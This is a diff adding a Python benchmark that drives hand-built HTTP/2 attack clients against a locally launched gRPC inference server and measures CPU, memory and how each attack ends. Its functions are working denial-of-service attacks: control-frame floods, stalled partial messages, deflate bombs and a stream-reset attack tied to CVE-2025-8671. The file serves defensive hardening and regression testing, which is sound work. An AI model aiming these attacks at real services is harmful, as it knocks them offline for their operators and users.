@@ -1,0 +1,508 @@
+"""Hostile HTTP/2 clients against rtserve's gRPC transport, written frame by frame: what
+each attack costs the server (CPU seconds per MB the attacker sends, RSS) and what it ends
+in (GOAWAY, resets, refusals), while a valid client keeps calling ``ServerLive``.
+
+    .venv/bin/python -m bench.h2_attacks            # this checkout
+    .venv/bin/python -m bench.h2_attacks --src /tmp/old/src   # another one (git worktree)
+
+The attacks hold no key (the server has keys on), except those marked "key". The tests in
+``tests/test_h2_budgets.py`` run the same functions and assert on how each is bounded.
+"""
+
+from __future__ import annotations
+
+import argparse
+import os
+import socket
+import struct
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import zlib
+from collections.abc import Callable
+from pathlib import Path
+
+import grpc
+import numpy as np
+from hpack import Encoder
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE = range(9)
+CONTINUATION = 9
+END_STREAM, END_HEADERS = 0x1, 0x4
+ENHANCE_YOUR_CALM = 11
+SERVICE = "/inference.GRPCInferenceService/"
+USER = "user-token-0123456789abcdef"  # may use model "a"
+ADMIN = "admin-token-0123456789abcdef"
+
+
+def frame(kind: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
+    n = len(payload)
+    return struct.pack(">BHBBL", n >> 16, n & 0xFFFF, kind, flags, sid) + payload
+
+
+def grpc_message(message: bytes, compressed: int = 0) -> bytes:
+    return struct.pack(">BL", compressed, len(message)) + message
+
+
+def infer_message(model: str = "a", value: float = 1.0) -> bytes:
+    from rtserve.protocol import grpc_service_pb2 as pb
+
+    r = pb.ModelInferRequest(model_name=model)
+    r.inputs.add(name="x", datatype="FP32", shape=[1, 4])
+    r.raw_input_contents.append(np.full((1, 4), value, np.float32).tobytes())
+    return r.SerializeToString()
+
+
+class Raw:
+    """One HTTP/2 connection written by hand (no client state machine: it sends what it is
+    told), reading the server's frames on demand."""
+
+    def __init__(self, port: int, source: str | None = None, window: int | None = None) -> None:
+        self.sock = socket.create_connection(
+            ("127.0.0.1", port), timeout=10, source_address=(source, 0) if source else None
+        )
+        self.enc = Encoder()
+        self.sid = -1
+        self.sent = 0
+        self.inbuf = b""
+        settings = b"" if window is None else struct.pack(">HL", 4, window)
+        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))
+
+    def send(self, data: bytes) -> None:
+        try:
+            self.sock.settimeout(10)  # (a partial write would leave the stream mid-frame)
+            self.sock.sendall(data)
+        except OSError:
+            return  # closed by the server
+        self.sent += len(data)
+
+    def headers(self, method: str, key: str | None = USER, extra: tuple = ()) -> tuple[int, bytes]:
+        """(stream id, a HEADERS block starting a call) to send."""
+        self.sid += 2
+        fields = [
+            (":method", "POST"), (":scheme", "http"), (":path", SERVICE + method),
+            (":authority", "x"), ("te", "trailers"), ("content-type", "application/grpc"),
+            *([("authorization", f"Bearer {key}")] if key else []), *extra,
+        ]  # fmt: skip
+        return self.sid, self.enc.encode(fields)
+
+    def call_frames(
+        self, method: str, body: bytes | None, key: str | None = USER, extra: tuple = ()
+    ) -> tuple[int, bytes]:
+        """(stream id, the frames of a call: headers, and ``body`` ending the request)."""
+        sid, block = self.headers(method, key, extra)
+        out = frame(HEADERS, END_HEADERS | (END_STREAM if body is None else 0), sid, block)
+        if body is not None:
+            out += frame(DATA, END_STREAM, sid, body)
+        return sid, out
+
+    def frames(self, timeout: float = 0.2) -> list[tuple[int, int, int, bytes]]:
+        """The frames that arrive within ``timeout`` (or until the connection closes)."""
+        got = []
+        self.sock.settimeout(timeout)
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            try:
+                chunk = self.sock.recv(1 << 20)
+            except (TimeoutError, OSError):
+                break
+            if not chunk:
+                break
+            self.inbuf += chunk
+            while len(self.inbuf) >= 9:
+                n = int.from_bytes(self.inbuf[:3], "big")
+                if len(self.inbuf) < 9 + n:
+                    break
+                kind, flags, sid = (
+                    self.inbuf[3],
+                    self.inbuf[4],
+                    struct.unpack(">L", self.inbuf[5:9])[0],
+                )
+                got.append((kind, flags, sid, self.inbuf[9 : 9 + n]))
+                self.inbuf = self.inbuf[9 + n :]
+        return got
+
+    def close(self) -> None:
+        self.sock.close()
+
+
+def goaway_code(frames: list[tuple[int, int, int, bytes]]) -> int | None:
+    for kind, _, _, payload in frames:
+        if kind == GOAWAY:
+            return int(struct.unpack(">L", payload[4:8])[0])
+    return None
+
+
+def drain(c: Raw, seconds: float = 5.0) -> list[tuple[int, int, int, bytes]]:
+    """Read until GOAWAY, close, or ``seconds``."""
+    got: list[tuple[int, int, int, bytes]] = []
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        more = c.frames(0.3)
+        got += more
+        if goaway_code(got) is not None or (not more and _closed(c)):
+            break
+    return got
+
+
+def _closed(c: Raw) -> bool:
+    try:
+        c.sock.settimeout(0.01)
+        return c.sock.recv(1, socket.MSG_PEEK) == b""
+    except (TimeoutError, BlockingIOError):
+        return False
+    except OSError:
+        return True
+
+
+# ---------------------------------------------------------------------------- floods
+# Each: (port) -> (bytes sent, frames the server sent back). Frames are written in batches
+# so that the server reads many per system call, as a real flood does.
+
+
+def flood(
+    port: int, setup: Callable[[Raw], bytes], one: Callable[[Raw, int], bytes], count: int
+) -> tuple[int, list]:
+    c = Raw(port)
+    try:
+        c.send(setup(c))
+        batch = 500
+        for i in range(0, count, batch):
+            c.send(b"".join(one(c, i + j) for j in range(batch)))
+        return c.sent, drain(c)
+    finally:
+        c.close()
+
+
+def _stream(c: Raw) -> bytes:
+    """A ModelStreamInfer call left open (the floods that need a stream use it)."""
+    sid, block = c.headers("ModelStreamInfer")
+    return frame(HEADERS, END_HEADERS, sid, block)
+
+
+FLOODS: dict[str, tuple[Callable[[Raw], bytes], Callable[[Raw, int], bytes]]] = {
+    "PING": (lambda c: b"", lambda c, i: frame(PING, 0, 0, struct.pack(">Q", i))),
+    "PRIORITY": (lambda c: b"", lambda c, i: frame(PRIORITY, 0, 3, b"\0\0\0\1\x10")),
+    "SETTINGS": (lambda c: b"", lambda c, i: frame(SETTINGS, 0, 0)),
+    "WINDOW_UPDATE(+1)": (lambda c: b"", lambda c, i: frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")),
+    "empty DATA (key)": (_stream, lambda c, i: frame(DATA, 0, 1, b"")),
+    "empty CONTINUATION": (
+        lambda c: frame(HEADERS, 0, 1, c.headers("ServerLive", None)[1]),
+        lambda c, i: frame(CONTINUATION, 0, 1, b""),
+    ),
+    "RST_STREAM": (lambda c: b"", lambda c, i: frame(RST_STREAM, 0, 1 + 2 * i, b"\0\0\0\x08")),
+    "unknown frame type": (lambda c: b"", lambda c, i: frame(0x20, 0, 0, b"x")),
+}
+
+
+def blocked_answers(port: int, streams: int = 1000) -> Raw:
+    """A connection whose ``streams`` ServerLive answers wait: its stream window is 0."""
+    c = Raw(port, window=0)
+    c.send(
+        b"".join(
+            c.call_frames("ServerLive", grpc_message(b""), key=None)[1] for _ in range(streams)
+        )
+    )
+    c.frames(0.5)
+    return c
+
+
+def window_update_flood(port: int, count: int = 50_000) -> tuple[int, list]:
+    """WINDOW_UPDATE(+1) on the connection while 1000 answers wait for window."""
+    c = blocked_answers(port)
+    try:
+        one = frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")
+        for _ in range(count // 1000):
+            c.send(one * 1000)
+        return c.sent, drain(c)
+    finally:
+        c.close()
+
+
+def settings_window_flood(port: int, count: int = 20_000) -> tuple[int, list]:
+    """SETTINGS_INITIAL_WINDOW_SIZE 0 / 1 alternating while 1000 answers wait for window."""
+    c = blocked_answers(port)
+    try:
+        pair = frame(SETTINGS, 0, 0, struct.pack(">HL", 4, 1)) + frame(
+            SETTINGS, 0, 0, struct.pack(">HL", 4, 0)
+        )
+        for _ in range(count // 1000):
+            c.send(pair * 500)
+        return c.sent, drain(c)
+    finally:
+        c.close()
+
+
+def partial_messages(
+    port: int,
+    streams: int = 60,
+    key: str | None = None,
+    seconds: float = 3.0,
+    declared: int = 60 << 20,
+) -> tuple[int, list]:
+    """``streams`` unary calls whose prefix declares ``declared`` bytes, each sent as far
+    as the server gives window, never finished; returns (bytes sent, frames back)."""
+    c = Raw(port)
+    chunk = b"\0" * 16384
+    windows: dict[int, int] = {}
+    left: dict[int, int] = {}  # bytes to send before the message would be complete
+    conn_window = 65535
+    got: list = []
+    try:
+        out = []
+        for _ in range(streams):
+            sid, block = c.headers("ModelInfer", key)
+            out.append(frame(HEADERS, END_HEADERS, sid, block))
+            out.append(frame(DATA, 0, sid, struct.pack(">BL", 0, declared)))
+            windows[sid] = 65535 - 5
+            left[sid] = declared - 1
+        c.send(b"".join(out))
+        conn_window -= 5 * streams
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline:
+            for kind, flags, sid, payload in c.frames(0.05):
+                got.append((kind, flags, sid, payload))
+                if kind == SETTINGS and not flags & 1:
+                    for i in range(0, len(payload), 6):
+                        k, v = struct.unpack(">HL", payload[i : i + 6])
+                        if k == 4:
+                            windows = {s: w + v - 65535 for s, w in windows.items()}
+                elif kind == WINDOW_UPDATE:
+                    inc = struct.unpack(">L", payload)[0]
+                    if sid == 0:
+                        conn_window += inc
+                    elif sid in windows:
+                        windows[sid] += inc
+                elif kind in (RST_STREAM, HEADERS) and sid in windows:
+                    del windows[sid]
+            out = []
+            for sid in list(windows):
+                room = windows[sid]
+                while room >= 16384 and conn_window >= 16384 and left[sid] >= 16384:
+                    out.append(frame(DATA, 0, sid, chunk))
+                    room -= 16384
+                    conn_window -= 16384
+                    left[sid] -= 16384
+                windows[sid] = room
+            if out:
+                c.send(b"".join(out))
+            if goaway_code(got) is not None:
+                break
+        return c.sent, got
+    finally:
+        c.close()
+
+
+def gzip_bombs(port: int, count: int = 20, key: str | None = None) -> tuple[int, list]:
+    """``count`` gzip-compressed ModelInfer messages of 64 MiB of zeros (~65 KB each)."""
+    bomb = zlib.compress(b"\0" * (64 << 20), 9)
+    c = Raw(port)
+    try:
+        for _ in range(count):
+            sid, block = c.headers("ModelInfer", key, (("grpc-encoding", "deflate"),))
+            c.send(frame(HEADERS, END_HEADERS, sid, block))
+            body = grpc_message(bomb, 1)
+            for i in range(0, len(body), 16384):
+                end = END_STREAM if i + 16384 >= len(body) else 0
+                c.send(frame(DATA, end, sid, body[i : i + 16384]))
+        return c.sent, drain(c, 3.0)
+    finally:
+        c.close()
+
+
+def made_you_reset(port: int, calls: int = 10_100, model: str = "a") -> tuple[int, list]:
+    """Calls that end their request, then a WINDOW_UPDATE of 0 on the stream: the server
+    resets them itself (CVE-2025-8671)."""
+    c = Raw(port)
+    body = grpc_message(infer_message(model))
+    try:
+        for _ in range(0, calls, 100):
+            out = []
+            for _ in range(100):
+                sid, frames = c.call_frames("ModelInfer", body)
+                out.append(frames + frame(WINDOW_UPDATE, 0, sid, b"\0\0\0\0"))
+            c.send(b"".join(out))
+        return c.sent, drain(c)
+    finally:
+        c.close()
+
+
+def unary_calls(port: int, calls: int = 20_000, key: str | None = USER) -> None:
+    """The hot path for comparison: ``calls`` ModelInfer calls, 100 at a time on one
+    connection, each batch answered before the next is sent."""
+    c = Raw(port)
+    body = grpc_message(infer_message("a"))
+    try:
+        for _ in range(calls // 100):
+            c.send(b"".join(c.call_frames("ModelInfer", body, key)[1] for _ in range(100)))
+            ended = 0
+            while ended < 100:
+                got = c.frames(5.0 if not ended else 1.0)
+                if not got:
+                    raise RuntimeError("answers did not come")
+                ended += sum(1 for f in got if f[0] == HEADERS and f[1] & END_STREAM)
+                acks = sum(len(f[3]) for f in got if f[0] == DATA)
+                if acks:
+                    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", acks)))
+    finally:
+        c.close()
+
+
+# ---------------------------------------------------------------------------- the server side
+def cpu_s(pid: int) -> float:
+    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
+    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
+
+
+def rss_mb(pid: int) -> float:
+    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+        if line.startswith("VmRSS:"):
+            return int(line.split()[1]) / 1024
+    return 0.0
+
+
+class Victim:
+    """A valid client calling ``ServerLive`` (and sampling the server's RSS) in a thread."""
+
+    def __init__(self, address: str, pid: int) -> None:
+        self.address, self.pid = address, pid
+        self.latencies: list[float] = []
+        self.errors: list[str] = []
+        self.rss_peak = self.rss_base = rss_mb(pid)
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._run, daemon=True)
+
+    def __enter__(self) -> Victim:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        deadline = time.monotonic() + 10  # (a few calls at least, after a short attack)
+        while len(self.latencies) + len(self.errors) < 3 and time.monotonic() < deadline:
+            time.sleep(0.02)
+        self._stop.set()
+        self._thread.join(30)
+
+    def _run(self) -> None:
+        from rtserve.protocol import grpc_service_pb2 as pb
+
+        with grpc.insecure_channel(self.address) as channel:
+            live = channel.unary_unary(
+                SERVICE + "ServerLive",
+                request_serializer=pb.ServerLiveRequest.SerializeToString,
+                response_deserializer=pb.ServerLiveResponse.FromString,
+            )
+            while not self._stop.is_set():
+                t0 = time.perf_counter()
+                try:
+                    live(pb.ServerLiveRequest(), timeout=10)
+                    self.latencies.append(time.perf_counter() - t0)
+                except grpc.RpcError as exc:
+                    self.errors.append(str(exc.code()))
+                self.rss_peak = max(self.rss_peak, rss_mb(self.pid))
+                time.sleep(0.02)
+
+    def median(self) -> float:
+        s = sorted(self.latencies)
+        return s[len(s) // 2] if s else float("inf")
+
+
+# ---------------------------------------------------------------------------- main
+def _serve(src: Path, work: Path) -> tuple[subprocess.Popen[bytes], int, int]:
+    import json
+    import urllib.request
+
+    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+    from tests.models import build_scale
+
+    build_scale(work / "repo" / "a" / "1" / "model.onnx", 2.0)
+    (work / "repo" / "a" / "config.yaml").write_text("max_batch_size: 4\n")
+    (work / "auth.yaml").write_text(
+        f"keys:\n  - {{name: app, token: {USER}, models: [a]}}\n"
+        f"  - {{name: ops, token: {ADMIN}, admin: true}}\n"
+    )
+    ports = work / "ports.json"
+    cmd = [
+        sys.executable, "-m", "rtserve.cli", "serve", "--model-repository", str(work / "repo"),
+        "--host", "127.0.0.1", "--http-port", "0", "--grpc-port", "0",
+        "--ports-file", str(ports), "--auth-file", str(work / "auth.yaml"),
+    ]  # fmt: skip
+    env = dict(os.environ, PYTHONPATH=str(src))
+    proc = subprocess.Popen(cmd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    for _ in range(600):
+        if ports.exists() and ports.stat().st_size:
+            info = json.loads(ports.read_text())
+            url = f"http://127.0.0.1:{info['http_port']}/v2/health/ready"
+            with urllib.request.urlopen(url, timeout=5):
+                return proc, info["http_port"], info["grpc_port"]
+        time.sleep(0.1)
+    proc.kill()
+    raise RuntimeError("server did not start")
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--src", type=Path, default=Path(__file__).resolve().parent.parent / "src")
+    parser.add_argument("--calls", type=int, default=0, help="only time this many valid calls")
+    args = parser.parse_args()
+    if args.calls:
+        with tempfile.TemporaryDirectory() as tmp:
+            proc, _, port = _serve(args.src, Path(tmp))
+            try:
+                unary_calls(port, 1000)  # warm up
+                before, t0 = cpu_s(proc.pid), time.perf_counter()
+                unary_calls(port, args.calls)
+                cpu, wall = cpu_s(proc.pid) - before, time.perf_counter() - t0
+                print(
+                    f"{args.calls} ModelInfer calls (key): server {cpu / args.calls * 1e6:.1f} "
+                    f"CPU us per call, {args.calls / wall:.0f} calls/s"
+                )
+            finally:
+                proc.kill()
+                proc.wait()
+        return
+    attacks: dict[str, Callable[[int], tuple[int, list]]] = {
+        name: (lambda port, s=setup, o=one: flood(port, s, o, 100_000))
+        for name, (setup, one) in FLOODS.items()
+    }
+    attacks["WINDOW_UPDATE(+1), 1000 answers waiting"] = window_update_flood
+    attacks["SETTINGS window, 1000 answers waiting"] = settings_window_flood
+    attacks["60 partial 60 MiB messages"] = lambda port: partial_messages(port, seconds=5)
+    attacks["60 partial 60 MiB messages (key)"] = lambda port: partial_messages(
+        port, key=USER, seconds=5
+    )
+    attacks["20 deflate bombs of 64 MiB"] = gzip_bombs
+    attacks["made you reset (key)"] = made_you_reset
+    print(
+        "| attack | sent (MB) | server CPU (s) | CPU s per MB | RSS + (MB) | ServerLive median (ms) | ended by |"
+    )
+    print("| --- | --- | --- | --- | --- | --- | --- |")
+    for name, attack in attacks.items():
+        with tempfile.TemporaryDirectory() as tmp:
+            proc, _, port = _serve(args.src, Path(tmp))
+            try:
+                time.sleep(0.5)
+                before = cpu_s(proc.pid)
+                with Victim(f"127.0.0.1:{port}", proc.pid) as victim:
+                    time.sleep(0.3)
+                    sent, got = attack(port)
+                cpu = cpu_s(proc.pid) - before
+                code = goaway_code(got)
+                resets = sum(1 for f in got if f[0] == RST_STREAM)
+                ended = f"GOAWAY {code}" if code is not None else f"{resets} RST_STREAM"
+                mb = sent / 1e6
+                print(
+                    f"| {name} | {mb:.2f} | {cpu:.2f} | {cpu / mb:.2f} | "
+                    f"{victim.rss_peak - victim.rss_base:+.0f} | {victim.median() * 1000:.1f} | {ended} |",
+                    flush=True,
+                )
+            finally:
+                proc.kill()
+                proc.wait()
+
+
+if __name__ == "__main__":
+    main()
